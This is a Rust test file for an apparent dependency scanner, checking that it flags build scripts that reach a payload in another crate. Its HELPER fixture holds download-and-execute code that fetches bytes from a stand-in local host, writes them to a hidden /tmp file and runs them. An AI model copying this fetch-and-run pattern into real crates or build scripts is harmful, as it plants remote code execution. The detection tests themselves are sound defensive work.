//! Payloads in one crate that the build of another starts: pairs of inert crates, and their near misses.

use serde_json::Value;

use crate::tree::Tree;
use crate::world::package;

/// Downloads and runs something in `run`; `plain` does nothing.
const HELPER: &str = r#"
use std::process::Command;

pub fn run() {
    let code = fetch();
    start(&code);
}

pub fn plain() -> u8 {
    1
}

fn fetch() -> Vec<u8> {
    let mut body = Vec::new();
    let reply = ureq::get("http://127.0.0.1:9/tool").call().unwrap();
    std::io::Read::read_to_end(&mut reply.into_reader(), &mut body).unwrap();
    body
}

fn start(code: &[u8]) {
    std::fs::write("/tmp/.tool", code).unwrap();
    Command::new("/tmp/.tool").spawn().unwrap();
}
"#;

/// What a check says about `caller`, with this manifest and these files.
fn judged(manifest: &str, files: &[(&str, &str)], locked: &[&str], others: impl FnOnce(&mut Tree)) -> Value {
    let mut tree = Tree::new();
    tree.publish("helper", "1.0.0", "[dependencies]\nureq = \"2\"\n", &[("src/lib.rs", HELPER)], &[]);
    others(&mut tree);
    tree.publish("caller", "1.0.0", manifest, files, locked);
    tree.member("[dependencies]\ncaller = \"1\"\n", &[("src/lib.rs", "")], &["caller"]);
    tree.world.advisories("other", "");
    package(&tree.world.check(&[]).json(), "caller").clone()
}

fn reached(package: &Value) -> Option<&Value> {
    let findings = package["case"]["findings"].as_array().unwrap();
    findings.iter().find(|it| it["rule"] == "reached-payload")
}

const BUILD: &str = "[build-dependencies]\nhelper = \"1\"\n";

#[test]
fn a_build_script_that_starts_a_payload_in_its_dependency_alerts() {
    let files = [("build.rs", "fn main() { helper::run(); }"), ("src/lib.rs", "")];
    let caller = judged(BUILD, &files, &["helper"], |_| {});
    let finding = reached(&caller).expect("a finding");
    assert!(["high", "critical"].contains(&finding["severity"].as_str().unwrap()), "{finding}");
    assert!(["alert", "block"].contains(&caller["case"]["level"].as_str().unwrap()), "{caller}");
    let message = finding["message"].as_str().unwrap();
    assert!(message.contains("`helper::run` leads into `helper@1.0.0`"), "{message}");
    let chain = caller["case"]["chain"].to_string();
    assert!(chain.contains("calls `helper::run`") && chain.contains("helper@1.0.0/src/lib.rs"), "{chain}");
}

#[test]
fn renamed_dependencies_and_exports_are_followed() {
    let renamed = "[build-dependencies]\ntool = { package = \"helper\", version = \"1\" }\n";
    let files = [("build.rs", "fn main() { tool::run(); }"), ("src/lib.rs", "")];
    assert!(reached(&judged(renamed, &files, &["helper"], |_| {})).is_some());

    let front = "[build-dependencies]\nfront = \"1\"\n";
    let files = [("build.rs", "fn main() { front::go(); }"), ("src/lib.rs", "")];
    for facade in ["pub use helper::run as go;", "pub fn go() { helper::run() }"] {
        let caller = judged(front, &files, &["front"], |tree| {
            let manifest = "[dependencies]\nhelper = \"1\"\n";
            tree.publish("front", "1.0.0", manifest, &[("src/lib.rs", facade)], &["helper"]);
        });
        let finding = reached(&caller).unwrap_or_else(|| panic!("nothing found behind `{facade}`"));
        let message = finding["message"].as_str().unwrap();
        assert!(message.contains("`front@1.0.0` and on into `helper@1.0.0`"), "{message}");
    }
}

#[test]
fn what_the_library_alone_calls_is_no_build() {
    let manifest = "[dependencies]\nhelper = \"1\"\n";
    let files = [("build.rs", "fn main() {}"), ("src/lib.rs", "pub fn go() { helper::run() }")];
    assert_eq!(reached(&judged(manifest, &files, &["helper"], |_| {})), None);
}

#[test]
fn another_function_of_the_same_crate_is_harmless() {
    let files = [("build.rs", "fn main() { helper::plain(); }"), ("src/lib.rs", "")];
    assert_eq!(reached(&judged(BUILD, &files, &["helper"], |_| {})), None);
}

#[test]
fn a_lone_file_does_not_tell_what_it_depends_on() {
    let mut tree = Tree::new();
    let files = [("build.rs", "fn main() { helper::run(); }"), ("src/lib.rs", "")];
    tree.publish("caller", "1.0.0", BUILD, &files, &["helper"]);
    tree.member("", &[("src/lib.rs", "")], &[]);
    tree.world.advisories("other", "");
    let path = tree.world.path("registry/caller-1.0.0.crate");
    let arguments = ["inspect", path.to_str().unwrap(), "--offline", "--advisory-db", "../advisory-db"];
    let document = tree.world.run(&[&arguments[..], &["--format", "json"]].concat()).json();
    let missing = document["case"]["not_evaluated"].as_array().unwrap();
    assert!(missing.iter().any(|it| it["rule"] == "reached-payload"), "{missing:?}");
}
